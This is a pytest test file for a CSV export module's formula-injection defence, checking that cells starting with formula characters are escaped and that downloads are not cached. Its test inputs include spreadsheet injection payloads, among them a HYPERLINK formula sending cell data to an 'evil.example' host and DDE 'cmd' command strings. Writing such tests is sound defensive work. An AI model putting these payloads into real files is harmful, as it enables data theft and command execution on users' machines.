import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from nenrin.core.export.csv_file import STARTS_FORMULA, csv_bytes, csv_response, safe_cell


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example?x="&A1)',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u3000=1",
        "＝1+1",
        "＋81",
        "＠x",
        "%0A=1",
    ],
)
def test_what_begins_like_a_formula_becomes_text(typed):
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("金山 花子", "金山 花子"),
        ("a=b", "a=b"),
        (-5, "-5"),
        ("-5.25", "-5.25"),
        (Decimal("-1.5"), "-1.5"),
        ("+81", "+81"),
        (None, ""),
        (date(2026, 4, 1), "2026-04-01"),
        (datetime(2026, 3, 31, 15, 30, tzinfo=UTC), "2026-04-01 00:30"),
    ],
)
def test_other_values_stay_as_they_are(value, text):
    assert safe_cell(value) == text


def test_no_cell_of_a_whole_file_begins_a_formula():
    rows = [[start + "1+1", "a,b", 'c"d', "e\n=f"] for start in STARTS_FORMULA]
    text = csv_bytes(["=head", "b", "c", "d"], rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert len(read) == len(rows) + 1
    assert [row[1:] for row in read[1:]] == [row[1:] for row in rows]
    assert not [cell for row in read for cell in row if cell.startswith(STARTS_FORMULA)]


def test_old_software_gets_its_encoding():
    assert csv_bytes(["髙"], [["😀"]], encoding="cp932").decode("cp932") == "髙\r\n?\r\n"


def test_it_is_a_download_that_is_not_kept():
    answer = csv_response("世帯.csv", ["a"], [["=1"]])
    assert answer["Content-Disposition"].startswith("attachment")
    assert "no-store" in answer["Cache-Control"]
    assert answer.content == b"\xef\xbb\xbfa\r\n'=1\r\n"
